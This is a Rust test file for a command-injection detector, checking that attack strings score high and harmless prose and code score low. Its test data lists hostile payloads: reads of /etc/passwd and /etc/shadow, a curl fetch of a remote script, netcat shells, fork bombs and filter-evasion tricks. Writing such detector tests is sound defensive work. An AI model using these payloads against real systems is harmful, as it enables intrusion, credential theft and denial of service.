//! Command injection: payloads that score, tool words in prose that do not.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::*;

fn s(v: &str) -> u32 {
    let mut h = Hits::default();
    scan(v.as_bytes(), Field::Value, &mut h);
    h.score(Class::Cmdi)
}

#[test]
fn cmdi_payloads_score_high() {
    for p in [
        ";cat /etc/passwd",
        "| id",
        "`whoami`",
        "$(curl http://x/y.sh)",
        "a;c'a't /etc/shadow",
        "x&&ping -c 3 127.0.0.1",
        "/???/??t /???/p??s??",
        ";cat${IFS}/etc/passwd",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_wrapped_rare_and_evasive_commands_score_high() {
    for p in [
        "time sh -c whoami",
        "nohup ifconfig",
        "ansible-vault decrypt secret",
        "; dir",
        "nc -lvvp 4444 -e /bin/sh",
        "perl -e 'print 1'",
        "c$_at /et$_c/pas$_swd",
        "pi``ng 127.0.0.1",
        "python3.10 -c 'import os'",
        "{,ifconfig}",
        ":(){ :|:& };:",
        "alias a=id",
        "<!--#exec cmd=\"/usr/bin/id\"-->",
        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
        ";\n.shell nc 10.0.0.1 6666 -e sh",
        "c{a,oun}t /etc/passwd",
        "$((7))z",
        ">(tee log)",
        "~+",
        "env --version",
        ".(){ .|.& };.",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_tool_words_in_prose_score_low() {
    for p in [
        "time flies like an arrow",
        "python tutorial for beginners",
        "env variables explained",
        "price: US$5 each; {a, b} sets",
        "pip the dog",
        "query Product($id: ID!) { product(id: $id) { title } }",
        "echo htmlspecialchars($comment, ENT_QUOTES);",
        "~5 minutes",
        "{a, b} and {c,d}",
        "read the --help output",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_prose_and_code_score_low() {
    for p in [
        "tea & books",
        "M&M's peanut butter",
        "git log --oneline --graph --decorate | head -20 shows the last 20 commits nicely.",
        "PowerShell: Get-ChildItem -Path . -Filter *.log | Measure-Object",
        "cat videos compilation",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_sqlite_dot_command_prefixes_score_high() {
    for p in [
        ";.sh whoami",
        "1;.\\\"shell whoami\n",
        ";\n.databases",
        "; .sys id",
    ] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_dotted_words_after_separators_score_low() {
    for p in [
        "see the docs; .shellrc is optional",
        "a list; .s files are assembly",
        "done. .dumpster fire",
        "file.sh",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_parameter_glued_inside_command_name_scores_high() {
    for p in ["cu$@rl google.com", "wh$*oami"] {
        assert!(s(p) >= 5, "{p} scored {}", s(p));
    }
}

#[test]
fn cmdi_dollar_signs_in_text_score_low() {
    for p in [
        "price$@store",
        "pay $5 at the counter",
        "user$@example.com",
        "a$*b",
    ] {
        assert!(s(p) < 5, "{p} scored {}", s(p));
    }
}
